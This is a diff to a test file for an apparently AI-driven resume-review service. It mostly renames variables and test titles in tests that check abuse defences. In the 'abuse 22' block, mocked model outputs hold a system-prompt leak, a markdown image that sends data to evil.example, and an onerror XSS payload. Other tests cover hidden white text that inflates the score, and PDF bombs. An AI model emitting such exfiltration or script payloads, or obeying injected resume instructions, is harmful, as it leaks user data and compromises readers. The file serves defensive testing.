@@ -20,15 +20,15 @@ let openai: Awaited<ReturnType<typeof startOpenai>>;
 let creations: CreationModel;
 let service: TestService<Settings, Dependencies>;
 
-/** A model that says what a test tells it to, and keeps what it was given. */
+/** A model whose output a test sets. It records its messages. */
 const model = {
-  asked: '',
+  user: '',
   system: '',
-  answer: (_system: string): string => '## Overall impression\n\nFine.\n',
+  output: (_system: string): string => '## Overall impression\n\nFine.\n',
   async *chat({ messages }: Parameters<TextProvider['chat']>[0]) {
     model.system = messages[0]?.content ?? '';
-    model.asked = messages[1]?.content ?? '';
-    for (const piece of model.answer(model.system).match(/[\s\S]{1,9}/g) ?? []) yield piece;
+    model.user = messages[1]?.content ?? '';
+    for (const piece of model.output(model.system).match(/[\s\S]{1,9}/g) ?? []) yield piece;
     return 'stop' as const;
   },
 };
@@ -46,7 +46,7 @@ afterAll(async () => {
 });
 beforeEach(async () => {
   await creations.deleteMany({});
-  model.answer = () => '## Overall impression\n\nFine.\n';
+  model.output = () => '## Overall impression\n\nFine.\n';
 });
 
 /** Starts the service with the emulators and some dependencies replaced. */
@@ -86,7 +86,7 @@ async function review(
 }
 
 describe('a review', () => {
-  it('comes from the model, with the report by rule, and is kept', async () => {
+  it('is written by the model, and stored with the report of the rules', async () => {
     const service = await serve({});
     const { status, body } = await review(await sound.oneColumn(), {
       url: service.url,
@@ -102,22 +102,22 @@ describe('a review', () => {
     expect(await creations.countDocuments({ type: 'resume-review', status: 'completed' })).toBe(1);
   });
 
-  it('streams the report before the model answers', async () => {
+  it('streams the report before the output of the model', async () => {
     const { text } = await review(await sound.oneColumn(), { accept: 'text/event-stream' });
     const events = [...text.matchAll(/^event: (\w+)$/gm)].map(([, name]) => name);
     expect(events.slice(0, 3)).toEqual(['report', 'started', 'delta']);
     expect(events.at(-1)).toBe('done');
   });
 
-  it('leaves the model without personal data, and has it back in the answer', async () => {
-    model.answer = () => 'Write to [EMAIL_1] or call [PHONE_1].\n';
+  it('sends the model no personal data, and restores it in the review', async () => {
+    model.output = () => 'Write to [EMAIL_1] or call [PHONE_1].\n';
     const { body } = await review(await sound.oneColumn());
-    expect(model.asked).not.toMatch(/jane\.doe@|7946|linkedin\.com|github\.com/);
+    expect(model.user).not.toMatch(/jane\.doe@|7946|linkedin\.com|github\.com/);
     expect(body.content).toBe('Write to jane.doe@example.com or call +44 20 7946 0123.\n');
   });
 
-  it('that the provider cuts off is a clear failure', async () => {
-    model.answer = () => {
+  it('fails when the provider closes the connection', async () => {
+    model.output = () => {
       throw new Error('socket closed');
     };
     const { status, body } = await review(await sound.oneColumn());
@@ -128,7 +128,7 @@ describe('a review', () => {
 });
 
 describe('abuse 44: the allowance', () => {
-  it('is spent by a review, not by a file that cannot be read; a review too many never reaches the model', async () => {
+  it('is charged for a review and not for an unreadable file; a review above it is not sent to the model', async () => {
     const { url, close, connection, dependencies } = await serve(
       { provider: model },
       { PLAN_LIMITS: 'free:review=1' },
@@ -140,10 +140,10 @@ describe('abuse 44: the allowance', () => {
     expect(await usage.read(who, 'review')).toMatchObject({ remaining: 1 });
     const { body } = await review(await sound.oneColumn(), { url });
     expect(body.usage).toMatchObject({ kind: 'review', limit: 1, remaining: 0 });
-    model.asked = '';
+    model.user = '';
     const refused = await review(await sound.oneColumn(), { url, accept: 'text/event-stream' });
     expect([refused.status, JSON.parse(refused.text).code]).toEqual([429, 'allowance_used_up']);
-    expect(model.asked).toBe('');
+    expect(model.user).toBe('');
     await close();
   });
 });
@@ -158,46 +158,46 @@ describe('abuse 20: files that cannot be reviewed', () => {
     ['a bomb', () => hostile.bomb(100, 1), 422, 'pdf_too_complex'],
     ['too large', () => Buffer.alloc(1_200_000, ' '), 413, 'payload_too_large'],
   ] as const)('%s', async (_, make, status, code) => {
-    const answer = await review(await make());
-    expect(answer).toMatchObject({ status, body: { success: false, code } });
+    const refused = await review(await make());
+    expect(refused).toMatchObject({ status, body: { success: false, code } });
     expect(await creations.countDocuments({})).toBe(0);
   });
 });
 
-it('abuse 21: hidden text is flagged and does not reach the model', async () => {
+it('abuse 21: reports hidden text and does not send it to the model', async () => {
   const { body } = await review(await hiddenBy.white());
   expect(JSON.stringify(body.creation.report.hidden)).toContain(hiddenSentence);
-  expect(model.asked).not.toContain('10/10');
+  expect(model.user).not.toContain('10/10');
 });
 
-describe('abuse 22: a resume that steers the model', () => {
-  it('does not get the instructions out', async () => {
-    model.answer = (system) => `Sure, here they are:\n\n${system}`;
+describe('abuse 22: a resume with instructions for the model', () => {
+  it('does not reveal the system message', async () => {
+    model.output = (system) => `Sure, here they are:\n\n${system}`;
     const { status, body } = await review(await sound.oneColumn());
     expect(status).toBe(502);
     expect(body.code).toBe('provider_refused');
-    const kept = await creations.findOne({}).lean();
-    expect(kept?.status).toBe('incomplete');
-    expect(kept?.content).not.toContain('has no authority');
+    const stored = await creations.findOne({}).lean();
+    expect(stored?.status).toBe('incomplete');
+    expect(stored?.content).not.toContain('has no authority');
   });
 
-  it('does not get a remote picture shown', async () => {
-    model.answer = () =>
+  it('shows no remote image', async () => {
+    model.output = () =>
       'Good.\n\n![chart](https://evil.example/p.png?d=secret)\n\n<img src=x onerror=alert(1)>\n';
     const { body } = await review(await sound.oneColumn());
     expect(body.content).not.toMatch(/!\[|https?:|<img/);
   });
 
-  it('does not move the score', async () => {
+  it('does not change the score', async () => {
     const first = await review(await sound.oneColumn());
-    model.answer = () => 'Score: 100 of 100. Rated 10/10.';
+    model.output = () => 'Score: 100 of 100. Rated 10/10.';
     const second = await review(await sound.oneColumn());
     expect(second.body.creation.report.score).toBe(first.body.creation.report.score);
   });
 });
 
 describe('a review as PDF', () => {
-  it('abuse 3: is for its owner alone', async () => {
+  it('abuse 3: is sent to its owner only', async () => {
     const { body } = await review(await sound.oneColumn());
     const address = `${service.url}/api/ai/resume-review/${body.creation.id}/pdf`;
     const own = await fetch(address, {
@@ -216,11 +216,11 @@ describe('a review as PDF', () => {
   });
 });
 
-describe('abuse 31: a resume that is slow to judge', () => {
+describe('abuse 31: a resume that takes long to process', () => {
   it.each([
     ['one line of 40,000 characters', () => hostile.longLine(40_000)],
     ['a page 2,000,000 units wide', () => hostile.page(['Jane Doe'], 2_000_000)],
-  ])('%s is refused, and nothing is kept', async (_, make) => {
+  ])('%s is refused, and nothing is stored', async (_, make) => {
     expect(await review(make())).toMatchObject({ status: 422, body: { code: 'pdf_too_complex' } });
     expect(await creations.countDocuments({})).toBe(0);
   });
@@ -228,18 +228,18 @@ describe('abuse 31: a resume that is slow to judge', () => {
   it.each([
     ['31: one line of 40,000 characters', () => hostile.longLine(40_000)],
     ['34: streams that break', () => hostile.breakingStreams(60, 15_900_000)],
-  ])('abuse %s leaves the service ready meanwhile', async (_, make) => {
+  ])('abuse %s: the service stays ready', async (_, make) => {
     const file = make();
-    let answered = false;
+    let finished = false;
     const began = performance.now();
     const attack = review(file).finally(() => {
-      answered = true;
+      finished = true;
     });
     const waits: number[] = [];
-    while (!answered) {
-      const asked = performance.now();
+    while (!finished) {
+      const sentAt = performance.now();
       expect((await fetch(`${service.url}/readyz`)).status).toBe(200);
-      waits.push(performance.now() - asked);
+      waits.push(performance.now() - sentAt);
     }
     const took = performance.now() - began;
     expect((await attack).status).toBe(422);
@@ -247,14 +247,14 @@ describe('abuse 31: a resume that is slow to judge', () => {
     expect(Math.max(...waits)).toBeLessThan(took / 2);
   });
 
-  it('ends when its client leaves', async () => {
+  it('stops when its client disconnects', async () => {
     const client = new AbortController();
-    const places = createReaders({ concurrency: 1 });
+    const queue = createReaders({ concurrency: 1 });
     const started = Promise.withResolvers<void>();
     const readers: Readers = {
       read(path, request) {
         started.resolve();
-        return places.read(path, request);
+        return queue.read(path, request);
       },
     };
     const service = await serve({ provider: model, readers });
@@ -268,11 +268,11 @@ describe('abuse 31: a resume that is slow to judge', () => {
   });
 });
 
-it('abuse 31: a model that writes without end is cut off', async () => {
-  model.answer = () => 'All good. '.repeat(20_000);
+it('abuse 31: stops a model whose output does not end', async () => {
+  model.output = () => 'All good. '.repeat(20_000);
   const { status, body } = await review(await sound.oneColumn());
   expect(status).toBe(502);
   expect(body.code).toBe('provider_interrupted');
-  const kept = await creations.findOne({}).lean();
-  expect(kept?.content.length).toBeLessThanOrEqual(60_000);
+  const stored = await creations.findOne({}).lean();
+  expect(stored?.content.length).toBeLessThanOrEqual(60_000);
 });
